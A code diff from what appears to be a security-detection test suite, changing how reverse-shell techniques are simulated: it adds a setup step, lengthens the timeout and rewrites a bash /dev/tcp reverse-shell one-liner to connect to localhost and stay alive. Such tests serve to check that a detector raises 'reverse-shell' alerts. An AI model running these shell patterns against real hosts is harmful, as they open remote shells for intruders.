@@ -16,15 +16,15 @@ function shell(
   what: string,
   rule: "reverse-shell" | "relayed-shell",
   command: (port: number) => string,
-  more: Partial<Technique> & { typed?: string } = {},
+  more: Partial<Technique> & { typed?: string; first?: string } = {},
 ): Technique {
-  const { typed, ...rest } = more;
+  const { typed, first = "true", ...rest } = more;
   const { port: open, wait } = listener(typed);
   return {
     what,
     in: "tools",
-    script: `${wait}
-      /bin/busybox timeout 5 ${command(open)}; true`,
+    script: `${first}; ${wait}
+      /bin/busybox timeout 10 ${command(open)}; true`,
     alerts: { [rule]: { peer: `127.0.0.1:${open}` } },
     waits: true,
     ...rest,
@@ -42,7 +42,9 @@ export const reverseShells: Technique[] = [
   shell(
     "bash that starts no program",
     "reverse-shell",
-    (to) => `bash -c 'exec 0<>/dev/tcp/127.0.0.1/${to} 1>&0; read line'`,
+    // It is found by a look at it a moment later: it lives for a while, whatever the other end does.
+    (to) => `bash -c 'exec 0<>/dev/tcp/127.0.0.1/${to} 1>&0 8<>/tmp/never; read -t 8 -u 8'`,
+    { first: "mkfifo /tmp/never" },
   ),
   shell(
     "python, its descriptors moved",
